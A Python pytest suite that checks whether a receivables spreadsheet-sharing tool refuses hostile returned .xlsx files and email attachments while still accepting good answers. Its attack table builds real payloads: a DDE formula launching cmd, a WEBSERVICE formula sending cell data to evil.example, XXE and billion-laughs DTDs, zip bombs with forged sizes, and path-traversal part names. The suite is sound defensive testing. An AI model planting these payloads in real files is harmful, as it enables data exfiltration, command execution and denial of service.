"""Files made to do harm: nothing of them is used, each is refused with a sentence that says why, and the good ones
beside them are read all the same."""

from __future__ import annotations

import os
import shutil
import struct
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import Workbook
from copies import answer, copy_of, make, replies, rezipped, share, table_in

SHEET = "xl/worksheets/sheet2.xml"
RELATION = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%b" '
    b'Target="%b" TargetMode="External"/>'
)


@pytest.fixture(scope="module")
def business(tmp_path_factory: pytest.TempPathFactory) -> Workbook:
    """A business that shared once; each test works on a copy of its folder."""
    workbook = make(tmp_path_factory.mktemp("business"))
    share(workbook)
    return workbook


@pytest.fixture
def shared(business: Workbook, tmp_path: Path) -> Workbook:
    """The business, with a good answer of K-2 beside whatever comes from K-1."""
    shutil.copytree(business.path.parent, tmp_path / "b")
    workbook = Workbook(tmp_path / "b" / "receivables.xlsx")
    answer(copy_of(workbook, "K-2"), "1043", reply="Bestrides")
    answer(copy_of(workbook, "K-1"), "1041", reply="Paid already")
    return workbook


def put_in(part: str, what: bytes, before: bytes) -> Callable[[Path], None]:
    """A change of one part: `what` before the first `before`."""

    def change(path: Path) -> None:
        def in_part(name: str, content: bytes) -> bytes:
            if name != part:
                return content
            assert before in content
            return content.replace(before, what + before, 1)

        rezipped(path, in_part)

    return change


def added(name: str, content: bytes = b"x") -> Callable[[Path], None]:
    return lambda path: rezipped(path, more={name: content})


def formula(text: str, saved: str = "1") -> Callable[[Path], None]:
    cell = f'<row r="900"><c r="B900"><f>{text}</f><v>{saved}</v></c></row>'.encode()
    return put_in(SHEET, cell, b"</sheetData>")


def relation(kind: bytes, target: bytes) -> Callable[[Path], None]:
    return put_in("xl/_rels/workbook.xml.rels", RELATION % (kind, target), b"</Relationships>")


def doctype(part: str, text: bytes) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        rezipped(path, lambda name, c: text + c.partition(b"?>")[2] or text + c if name == part else c)

    return change


def in_utf16(path: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        if name != SHEET:
            return content
        text = content.decode().rpartition("?>")[2]
        return f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>{text}'.encode("utf-16")

    rezipped(path, change)


def lying_about_its_size(path: Path) -> None:
    """5 MB of zeros that say they are a few bytes."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/theme/theme9.xml", bytes(5_000_000))
    data = bytearray(path.read_bytes())
    for mark, at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        place = data.rfind(mark)
        struct.pack_into("<L", data, place + at, 10)
    path.write_bytes(bytes(data))


def claiming_four_gigabytes(path: Path) -> None:
    data = bytearray(path.read_bytes())
    struct.pack_into("<L", data, data.find(b"PK\1\2") + 24, 4_000_000_000)
    path.write_bytes(bytes(data))


def twice(path: Path) -> None:
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(path, "a") as parts:
        parts.writestr(SHEET, parts.read(SHEET))


def ten_thousand_parts(path: Path) -> None:
    rezipped(path, more={f"xl/media/{number}.bin": b"" for number in range(1100)})


def forged(path: Path) -> None:
    rezipped(path, lambda name, c: c.replace(b"copy 1 / 1 /", b"copy 1 / 2 /") if name.endswith(".xml") else c)


def another_invoice(path: Path) -> None:
    rezipped(path, lambda name, c: c.replace(b">1042<", b">1043<") if name.endswith(".xml") else c)


def row_taken_out(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    page, header, _ = table_in(book)
    page.delete_rows(header + 2)
    book.save(path)


def row_twice(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    page, header, places = table_in(book)
    page.cell(header + 3, places["invoice"]).value = "1041"
    book.save(path)


def column_twice(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    page, header, _ = table_in(book)
    page.cell(header, page.max_column + 1).value = "Antwort"
    book.save(path)


def no_list(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    page, header, _ = table_in(book)
    page.delete_rows(header)
    book.save(path)


def no_mark(path: Path) -> None:
    rezipped(path, lambda name, c: c.replace(b"ar-sheets copy 1", b"something") if name.endswith(".xml") else c)


def two_marks(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    theirs = openpyxl.load_workbook(next((path.parents[1] / "K-2").glob("*.xlsx"))).worksheets[0]
    cells = (cell.value for row in theirs.iter_rows() for cell in row)
    other = next(value for value in cells if str(value).startswith("ar-sheets copy"))
    book.worksheets[0]["H40"] = other
    book.save(path)


MACRO_TYPE = b'<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
FAR_OUT = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "' + b"x" * 1000 + b'"><!ENTITY b "' + b"&a;" * 1000 + b'">]>'
MACROS, LINK, OBJECT, DATA, DTD = (
    "It holds macros", "It holds a link to another file or program", "It holds an embedded object",
    "It holds a data connection", "It holds a DTD",
)  # fmt: skip
ATTACKS = {
    "macros": (added("xl/vbaProject.bin"), MACROS),
    "macros under another name": (put_in("[Content_Types].xml", MACRO_TYPE, b"</Types>"), MACROS),
    "a macro sheet": (added("xl/macrosheets/sheet1.xml", b"<x/>"), MACROS),
    "an external link": (added("xl/externalLinks/externalLink1.xml", b"<x/>"), LINK),
    "DDE in a link": (added("xl/externalLinks/ddeLink1.xml", b"<ddeLink/>"), LINK),
    "DDE in a formula": (formula("cmd|'/c calc'!A0"), LINK),
    "another file in a formula": (formula("'[1]Sheet1'!A1"), LINK),
    "a formula that fetches": (formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), LINK),
    "a picture from outside": (relation(b"image", b"https://evil.example/x.png"), LINK),
    "an embedded object": (added("xl/embeddings/oleObject1.bin"), OBJECT),
    "an object by its relation": (relation(b"oleObject", b"x.bin"), OBJECT),
    "a control": (added("xl/activeX/activeX1.xml", b"<x/>"), OBJECT),
    "a data connection": (added("xl/connections.xml", b"<connections/>"), DATA),
    "XXE": (doctype(SHEET, b'<!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.example/x">]>'), DTD),
    "a billion laughs": (doctype(SHEET, LAUGHS), DTD),
    "a DTD in UTF-16": (in_utf16, DTD),
    "a cell far out": (put_in(SHEET, FAR_OUT, b"</sheetData>"),
                       "holds something in the cell XFD1048576, far outside the list"),
    "a zip bomb": (added("xl/media/image9.png", bytes(101_000_000)), "would take 101 MB unpacked"),
    "a zip bomb that lies": (lying_about_its_size, "does not match its checksum"),
    "a part that claims four gigabytes": (claiming_four_gigabytes, "would take 4,000 MB unpacked"),
    "ten thousand parts": (ten_thousand_parts, "more than 1,000 parts"),
    "a part twice": (twice, "is in it twice"),
    "a part twice in other case": (added("XL/worksheets/SHEET2.xml", b"<x/>"), "is in it twice"),
    "a part that leads out": (added("xl/../../../evil.xml", b"<x/>"), "a name that leads out of it"),
    "a part with a drive": (added("C:/evil.xml", b"<x/>"), "a name that leads out of it"),
    "a forged version": (forged, "Its mark does not fit"),
    "a row of somebody else": (another_invoice, "Its mark does not fit"),
    "a row taken out": (row_taken_out, "Its mark does not fit"),
    "a row twice": (row_twice, "An invoice stands in it twice"),
    "a column twice": (column_twice, "stands in it twice, so nobody knows which counts"),
    "no list": (no_list, "The list of invoices with the five columns to answer in is not in it any more"),
    "no mark": (no_mark, "It has no mark of a copy made by share"),
    "two marks": (two_marks, "It has the marks of several copies"),
    "nothing": (lambda path: path.write_bytes(b""), "The file is empty"),
    "text": (lambda path: path.write_bytes(b"a,b\n1,2\n"), "This is a text file (such as CSV)"),
    "an old .xls": (lambda path: path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "old .xls format"),
    "half a file": (lambda path: path.write_bytes(path.read_bytes()[:5000]), "its end is missing"),
    "zeros": (lambda path: path.write_bytes(b"PK\3\4" + bytes(5000)), "its end is missing"),
}  # fmt: skip


@pytest.fixture(scope="module")
def attacked(business: Workbook, tmp_path_factory: pytest.TempPathFactory) -> tuple[Workbook, dict[str, Any]]:
    """All attacks in the folder of K-1 at once, and a good answer in that of K-2: what `replies` made of it."""
    home = tmp_path_factory.mktemp("attacked") / "b"
    shutil.copytree(business.path.parent, home)
    workbook = Workbook(home / "receivables.xlsx")
    answer(copy_of(workbook, "K-2"), "1043", reply="Bestrides")
    path = answer(copy_of(workbook, "K-1"), "1041", reply="Paid already")
    kept = path.read_bytes()
    for attack, (spoil, _) in ATTACKS.items():
        made = path.with_name(f"{attack}.xlsx")
        made.write_bytes(kept)
        spoil(made)
    path.unlink()
    return workbook, replies(workbook)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_hostile_file_is_used(attacked: tuple[Workbook, dict[str, Any]], attack: str) -> None:
    _, found = attacked
    why = {r["file"]: r["why"] for r in found["rejected"]}
    assert ATTACKS[attack][1] in why.get(f"K-1/{attack}.xlsx", "it was not refused")


def test_good_answers_beside_hostile_files_are_taken(attacked: tuple[Workbook, dict[str, Any]]) -> None:
    workbook, found = attacked
    assert [(a["customer"], a["event"]) for a in found["answers"]] == [("K-2", "answered")]
    assert len(found["rejected"]) == len(ATTACKS)
    assert workbook.invoice("1041")["reply"] is None
    assert workbook.invoice("1043")["reply"] == "Dispute"


@pytest.mark.parametrize("attack", ["macros", "a forged version", "half a file"])
def test_a_copy_that_cannot_be_read_is_not_renewed(shared: Workbook, attack: str) -> None:
    ATTACKS[attack][0](copy_of(shared, "K-1"))
    before = copy_of(shared, "K-1").read_bytes()
    outcome = share(shared, on="2026-11-21")["K-1"]
    assert outcome["what"] == "held"
    assert "Move it out of the folder, then share again" in outcome["why"]
    assert copy_of(shared, "K-1").read_bytes() == before


def test_a_forged_saved_result_is_not_taken_for_an_answer(shared: Workbook) -> None:
    """A formula that says one thing and is saved with another."""
    path = copy_of(shared, "K-1")
    book = openpyxl.load_workbook(path)
    page, header, places = table_in(book)
    page.cell(header + 1, places["customer_comment"]).value = '="a"'
    book.save(path)
    rezipped(path, lambda name, c: c.replace(b"<f>&quot;a&quot;</f><v />", b'<f>"a"</f><v>I owe nothing</v>')
             .replace(b'<f>"a"</f><v></v>', b'<f>"a"</f><v>I owe nothing</v>'))  # fmt: skip
    events = {a["column"]: (a["event"], a["why"]) for a in replies(shared)["answers"] if a["customer"] == "K-1"}
    assert events["customer_comment"] == ("answer not taken", "it is a formula; only what is typed counts")
    assert events["reply"] == ("answer not taken", "not taken without the rest of the answer")


def test_a_copy_in_the_folder_of_another_customer_is_refused(shared: Workbook) -> None:
    shutil.copy(copy_of(shared, "K-1"), copy_of(shared, "K-2").with_name("mine.xlsx"))
    found = replies(shared)
    assert "It is the copy of another customer (K-1), in the folder of K-2" in found["rejected"][0]["why"]
    assert {a["customer"] for a in found["answers"]} == {"K-1", "K-2"}  # each from their own folder


def test_a_copy_made_by_another_business_is_refused(shared: Workbook, tmp_path: Path) -> None:
    (shared.path.parent / ".ar-sheets" / "share.key").write_text("00" * 32)
    found = replies(shared)
    assert len(found["rejected"]) == 2
    assert all("Its mark does not fit" in r["why"] for r in found["rejected"])


def test_an_invoice_that_is_no_longer_theirs_is_refused(shared: Workbook) -> None:
    shared.type("Invoices", shared.find("Invoices", invoice_no="1041"), "customer_id", "K-3")
    events = {a["invoice"]: (a["event"], a["why"]) for a in replies(shared)["answers"]}
    assert events["1041"] == ("answer not taken", "the workbook has no such invoice of theirs")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes")
def test_a_pipe_or_a_link_in_a_shared_folder_is_left_alone(shared: Workbook) -> None:
    folder = copy_of(shared, "K-1").parent
    os.mkfifo(folder / "pipe.xlsx")
    (folder / "link.xlsx").symlink_to(shared.path)
    found = replies(shared)
    assert [(r["file"], r["why"].split(".")[0]) for r in found["rejected"]] == [("K-1/pipe.xlsx", "pipe")]
    assert len(found["answers"]) == 2


def test_a_folder_stuffed_with_files_is_not_read_to_its_end(shared: Workbook) -> None:
    folder = copy_of(shared, "K-1").parent
    for number in range(70):
        (folder / f"zz{number}.xlsx").write_bytes(b"")
    found = replies(shared)
    assert {r["file"] for r in found["rejected"] if "more" in r["file"]} == {"K-1/11 more files"}
    assert len(found["answers"]) == 2


def test_a_file_too_large_is_not_even_read(shared: Workbook) -> None:
    with copy_of(shared, "K-1").open("r+b") as file:
        file.truncate(21_000_000)
    assert "too large to be read: 21 MB" in replies(shared)["rejected"][0]["why"]


def test_a_mail_with_names_that_lead_elsewhere_writes_nothing(shared: Workbook, tmp_path: Path) -> None:
    mail = EmailMessage()
    mail["From"] = "x\u202eevil <a@b.example>"
    mail.set_content("x")
    for name in ("../../evil.xlsx", "C:\\evil.xlsm", "evil.html", "a" * 5000 + ".xlsx"):
        mail.add_attachment(b"PK\3\4", maintype="application", subtype="octet-stream", filename=name)
    path = tmp_path / "evil.eml"
    path.write_bytes(mail.as_bytes())
    before = sorted(p for p in tmp_path.rglob("*") if ".ar-sheets" not in p.parts)
    found = replies(shared, path)
    assert len(found["rejected"]) == 3
    assert sorted(p for p in tmp_path.rglob("*") if ".ar-sheets" not in p.parts) == before


@pytest.mark.parametrize("content", [b"", b"\0" * 100, b"Content-Type: multipart/mixed; boundary=x\n\n--x\n--x\n--x"])
def test_a_mail_without_anything_is_said_to_be_one(shared: Workbook, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "odd.eml"
    path.write_bytes(content)
    found = replies(shared, path)
    assert found["without_copy"] == ["odd.eml"]
